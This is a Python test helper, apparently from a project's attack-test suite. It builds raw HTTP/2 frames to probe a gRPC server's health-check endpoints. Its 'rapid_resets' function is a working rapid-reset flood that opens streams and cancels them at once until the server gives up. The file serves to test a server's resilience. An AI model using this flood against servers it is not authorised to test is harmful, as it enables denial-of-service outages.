"""Frames of HTTP/2 (RFC 9113), as much as it takes to misbehave towards a gRPC server."""

import contextlib
import socket
import struct
import time
from collections.abc import Mapping

from tests.attacks.sockets import connect

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = struct.pack(">I", 8)
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
EMPTY_MESSAGE = b"\0\0\0\0\0"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def call(stream: int, path: str, metadata: Mapping[str, str] | None = None) -> bytes:
    """The header of a gRPC call; its message is still to come."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "te": "trailers"}
    fields |= {"content-type": "application/grpc", **(metadata or {})}
    return frame(HEADERS, END_HEADERS, stream, b"".join(_literal(*field) for field in fields.items()))


def open_connection(port: int) -> socket.socket:
    """A connection that has said its preface and settings."""
    made = connect(port)
    made.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
    return made


def frames(connection: socket.socket, seconds: float) -> list[tuple[int, int, int, bytes]]:
    """What comes within a time: kind, flags, stream and payload; the last one is GOAWAY 0 if the server hung up."""
    got, until = b"", time.monotonic() + seconds
    is_ended = False
    with contextlib.suppress(TimeoutError):
        while (left := until - time.monotonic()) > 0:
            connection.settimeout(left)
            try:
                part = connection.recv(65_536)
            except ConnectionResetError:
                part = b""
            got += part
            if not part:
                is_ended = True
                break
    found = []
    while len(got) >= 9:
        length = int.from_bytes(got[:3], "big")
        found.append((got[3], got[4], int.from_bytes(got[5:9], "big"), got[9 : 9 + length]))
        got = got[9 + length :]
    return [*found, (GOAWAY, 0, 0, b"")] if is_ended else found


def _literal(name: str, value: str) -> bytes:
    # Never indexed, and without Huffman's code (RFC 7541, 6.2.3).
    return b"\x10" + _text(name) + _text(value)


def _text(text: str) -> bytes:
    raw = text.encode()
    if len(raw) < 127:
        return bytes((len(raw),)) + raw
    rest, more = len(raw) - 127, b""
    while rest >= 128:
        more += bytes((rest % 128 + 128,))
        rest //= 128
    return b"\x7f" + more + bytes((rest,)) + raw


def rapid_resets(port: int, count: int, path: str) -> int:
    """Begin calls and take them back at once; how many were sent before the server hung up."""
    sent, batch = 0, b""
    with contextlib.closing(open_connection(port)) as made, contextlib.suppress(OSError):
        for number in range(count):
            stream = 2 * number + 1
            batch += call(stream, path) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
            batch += frame(RST_STREAM, 0, stream, CANCEL)
            if len(batch) > 32_768:
                made.sendall(batch)
                sent, batch = number + 1, b""
                made.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while made.recv(1 << 20):
                        pass
                made.settimeout(5)
        made.sendall(batch)
        sent = count
    return sent
